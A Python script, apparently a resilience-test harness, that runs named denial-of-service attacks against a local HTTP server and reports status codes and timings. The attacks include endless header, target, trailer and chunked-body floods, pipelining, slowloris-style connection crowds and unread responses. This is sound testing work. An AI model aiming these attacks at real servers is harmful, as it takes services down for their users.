"""Attacks on an HTTP server, each over real connections: `python attacks.py NAME PORT`.

A process of its own, so that what the attacker computes does not slow down whoever measures. Each
prints what the server answered and when the last connection was closed, as JSON.
"""

import json
import select
import socket
import sys
import time
from collections.abc import Callable, Iterator

HEAD = b"GET /health/live HTTP/1.1\r\nHost: attacked\r\n"
MEBIBYTE = 1024 * 1024
PATIENCE_SECONDS = 30.0


def pieces_of(first: bytes, piece: bytes, *, mebibytes: int) -> Iterator[bytes]:
    """`first`, and then the same piece over and over."""
    yield first
    for _ in range(mebibytes * MEBIBYTE // len(piece)):
        yield piece


def flood(port: int, pieces: Iterator[bytes]) -> dict[str, object]:
    """One connection that sends as fast as it is read; reads what it is told meanwhile."""
    connection = socket.create_connection(("127.0.0.1", port))
    started = time.monotonic()
    sent = 0
    answer = b""
    try:
        for piece in pieces:
            connection.sendall(piece)
            sent += len(piece)
            if not answer and select.select([connection], [], [], 0)[0]:
                answer = connection.recv(65_536)
    except OSError:
        pass
    return {
        "statuses": [status_of(answer or rest_of(connection))],
        "sent_bytes": sent,
        "seconds": time.monotonic() - started,
    }


def rest_of(connection: socket.socket) -> bytes:
    try:
        connection.settimeout(PATIENCE_SECONDS)
        return connection.recv(65_536)
    except OSError:
        return b""


def status_of(answer: bytes) -> int:
    return int(answer.split(b" ")[1]) if answer.startswith(b"HTTP/") else 0


def crowd(port: int, count: int, first: bytes, drip: bytes) -> dict[str, object]:
    """Many connections that begin, and then send a drop five times a second, or nothing."""
    open_ones: dict[int, socket.socket] = {}
    for _ in range(count):
        connection = socket.create_connection(("127.0.0.1", port))
        connection.sendall(first)
        connection.setblocking(False)
        open_ones[connection.fileno()] = connection
    started = time.monotonic()
    statuses: set[int] = set()
    while open_ones and time.monotonic() - started < PATIENCE_SECONDS:
        readable, _, _ = select.select(list(open_ones), [], [], 0.2)
        for number in readable:
            try:
                answer = open_ones[number].recv(65_536)
            except OSError:
                answer = b""
            if answer:
                statuses.add(status_of(answer))
            else:
                open_ones.pop(number).close()
        for connection in list(open_ones.values()) if drip else ():
            try:
                connection.send(drip)
            except OSError:
                open_ones.pop(connection.fileno()).close()
    return {
        "statuses": sorted(statuses),
        "left_open": len(open_ones),
        "seconds": time.monotonic() - started,
    }


def unread(port: int) -> dict[str, object]:
    """Asks for much and reads nothing of it."""
    connection = socket.create_connection(("127.0.0.1", port))
    connection.sendall(b"GET /much HTTP/1.1\r\nHost: attacked\r\n\r\n")
    started = time.monotonic()
    poll = select.poll()
    poll.register(connection, select.POLLERR | select.POLLHUP)
    ended = bool(poll.poll(PATIENCE_SECONDS * 1_000))
    return {"left_open": 0 if ended else 1, "seconds": time.monotonic() - started}


ATTACKS: dict[str, Callable[[int], dict[str, object]]] = {
    "endless_header": lambda port: flood(
        port, pieces_of(HEAD + b"X-Endless: ", b"a" * 16_384, mebibytes=64)
    ),
    "endless_header_in_drops": lambda port: flood(
        port, pieces_of(HEAD + b"X-Endless: ", b"a" * 512, mebibytes=16)
    ),
    "endless_name": lambda port: flood(port, pieces_of(HEAD, b"a" * 16_384, mebibytes=64)),
    "endless_lines": lambda port: flood(port, pieces_of(HEAD, b"a: b\r\n" * 2_000, mebibytes=64)),
    "endless_target": lambda port: flood(port, pieces_of(b"GET /", b"a" * 16_384, mebibytes=64)),
    "endless_trailer": lambda port: flood(
        port,
        pieces_of(
            b"POST /body HTTP/1.1\r\nHost: attacked\r\nTransfer-Encoding: chunked\r\n\r\n"
            b"1\r\na\r\n0\r\nX-Endless: ",
            b"a" * 16_384,
            mebibytes=64,
        ),
    ),
    "endless_body": lambda port: flood(
        port,
        pieces_of(
            b"POST /body HTTP/1.1\r\nHost: attacked\r\nTransfer-Encoding: chunked\r\n\r\n",
            b"4000\r\n" + b"a" * 0x4000 + b"\r\n",
            mebibytes=256,
        ),
    ),
    "pipelined": lambda port: flood(
        port, pieces_of(HEAD + b"\r\n", (HEAD + b"\r\n") * 200, mebibytes=64)
    ),
    "silent": lambda port: crowd(port, 400, b"", b""),
    "blank_lines": lambda port: crowd(port, 400, b"", b"\r\n"),
    "partial_heads": lambda port: crowd(port, 400, HEAD, b"X-Drop: a\r\n"),
    "partial_bodies": lambda port: crowd(
        port, 400, b"POST /body HTTP/1.1\r\nHost: attacked\r\nContent-Length: 999999\r\n\r\n", b"a"
    ),
    "unread": unread,
}

if __name__ == "__main__":
    sys.stdout.write(json.dumps(ATTACKS[sys.argv[1]](int(sys.argv[2]))))
